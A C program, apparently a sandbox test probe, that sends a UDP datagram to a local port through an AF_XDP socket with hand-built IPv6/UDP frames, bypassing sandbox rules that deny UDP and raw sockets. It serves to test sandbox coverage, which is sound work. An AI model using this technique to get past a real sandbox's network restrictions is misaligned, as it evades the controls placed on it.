/*
 * Attack: send a UDP datagram without a UDP, raw or packet socket. An
 * AF_XDP socket (root holds CAP_NET_RAW) in copy mode transmits whole
 * Ethernet frames that the program writes itself, on any interface, with
 * no XDP program loaded: here one IPv6/UDP frame on the loopback
 * interface, to [::1]:PORT, which the kernel delivers to the UDP
 * socket listening there. Neither `[net] udp = "deny"` nor `raw = false`
 * covered the AF_XDP family.
 *
 *   udp_xdp_send PORT PAYLOAD
 *
 * Prints probe-style lines: "xdp socket: OK|ERRNO" and, when the socket
 * opened, "xdp send: OK|ERRNO" (OK: the kernel completed the frame).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_xdp.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef AF_XDP
#define AF_XDP 44
#endif
#ifndef SOL_XDP
#define SOL_XDP 283
#endif

#define FRAME 2048
#define FRAMES 8
#define RING 4

static int fail(const char *what) {
  printf("%s: %s\n", what, strerrorname_np(errno));
  return 0;
}

static uint16_t checksum(const uint8_t *p, size_t n) {
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < n; i += 2) sum += (p[i] << 8) | p[i + 1];
  if (n & 1) sum += p[n - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

/*
 * Ethernet (zero MACs, as lo has) + IPv6 + UDP, ::1 -> [::1]:port. IPv6,
 * not IPv4: the kernel drops an IPv4 frame from or to 127.0.0.0/8 that
 * arrives without a route (a martian), but accepts ::1 on lo.
 */
static size_t frame(uint8_t *f, int port, const char *payload) {
  size_t n = strlen(payload);
  memset(f, 0, 14 + 40 + 8);
  f[12] = 0x86; /* ETH_P_IPV6 */
  f[13] = 0xdd;
  uint8_t *ip = f + 14;
  ip[0] = 0x60;
  uint16_t plen = htons(8 + n);
  memcpy(ip + 4, &plen, 2);
  ip[6] = 17; /* UDP */
  ip[7] = 64; /* hop limit */
  ip[8 + 15] = 1;  /* source ::1 */
  ip[24 + 15] = 1; /* destination ::1 */
  uint8_t *udp = ip + 40;
  uint16_t sport = htons(40000), dport = htons(port);
  memcpy(udp, &sport, 2);
  memcpy(udp + 2, &dport, 2);
  memcpy(udp + 4, &plen, 2);
  memcpy(udp + 8, payload, n);
  /* The checksum covers a pseudo-header: addresses, length, protocol. */
  uint8_t pseudo[40 + 8 + 1500];
  memcpy(pseudo, ip + 8, 32);
  uint32_t ulen = htonl(8 + n);
  memcpy(pseudo + 32, &ulen, 4);
  memset(pseudo + 36, 0, 3);
  pseudo[39] = 17;
  memcpy(pseudo + 40, udp, 8 + n);
  uint16_t c = htons(checksum(pseudo, 40 + 8 + n));
  memcpy(udp + 6, &c, 2);
  return 14 + 40 + 8 + n;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc != 3 || strlen(argv[2]) > 1000) return 2;
  int fd = socket(AF_XDP, SOCK_RAW | SOCK_CLOEXEC, 0);
  if (fd < 0) return fail("xdp socket");
  printf("xdp socket: OK\n");

  uint8_t *umem = mmap(NULL, FRAME * FRAMES, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (umem == MAP_FAILED) return fail("xdp send");
  struct xdp_umem_reg reg = {
      .addr = (uintptr_t)umem, .len = FRAME * FRAMES, .chunk_size = FRAME};
  int ring = RING;
  if (setsockopt(fd, SOL_XDP, XDP_UMEM_REG, &reg, sizeof(reg)) ||
      setsockopt(fd, SOL_XDP, XDP_UMEM_FILL_RING, &ring, sizeof(ring)) ||
      setsockopt(fd, SOL_XDP, XDP_UMEM_COMPLETION_RING, &ring, sizeof(ring)) ||
      setsockopt(fd, SOL_XDP, XDP_TX_RING, &ring, sizeof(ring)))
    return fail("xdp send");
  struct xdp_mmap_offsets off;
  socklen_t olen = sizeof(off);
  if (getsockopt(fd, SOL_XDP, XDP_MMAP_OFFSETS, &off, &olen))
    return fail("xdp send");
  size_t txlen = off.tx.desc + RING * sizeof(struct xdp_desc);
  uint8_t *tx = mmap(NULL, txlen, PROT_READ | PROT_WRITE,
                     MAP_SHARED | MAP_POPULATE, fd, XDP_PGOFF_TX_RING);
  size_t cqlen = off.cr.desc + RING * sizeof(uint64_t);
  uint8_t *cq = mmap(NULL, cqlen, PROT_READ | PROT_WRITE,
                     MAP_SHARED | MAP_POPULATE, fd, XDP_UMEM_PGOFF_COMPLETION_RING);
  if (tx == MAP_FAILED || cq == MAP_FAILED) return fail("xdp send");

  struct sockaddr_xdp sxdp = {.sxdp_family = AF_XDP,
                              .sxdp_ifindex = if_nametoindex("lo"),
                              .sxdp_queue_id = 0,
                              .sxdp_flags = XDP_COPY};
  if (bind(fd, (struct sockaddr *)&sxdp, sizeof(sxdp))) return fail("xdp send");

  size_t len = frame(umem, atoi(argv[1]), argv[2]);
  struct xdp_desc *desc = (struct xdp_desc *)(tx + off.tx.desc);
  desc[0].addr = 0;
  desc[0].len = len;
  desc[0].options = 0;
  __atomic_store_n((uint32_t *)(tx + off.tx.producer), 1, __ATOMIC_RELEASE);
  if (sendto(fd, NULL, 0, MSG_DONTWAIT, NULL, 0) < 0 && errno != EAGAIN &&
      errno != EBUSY)
    return fail("xdp send");
  for (int i = 0; i < 100; i++) {
    if (__atomic_load_n((uint32_t *)(cq + off.cr.producer), __ATOMIC_ACQUIRE)) {
      printf("xdp send: OK\n");
      return 0;
    }
    usleep(10000);
  }
  errno = ETIMEDOUT;
  return fail("xdp send");
}
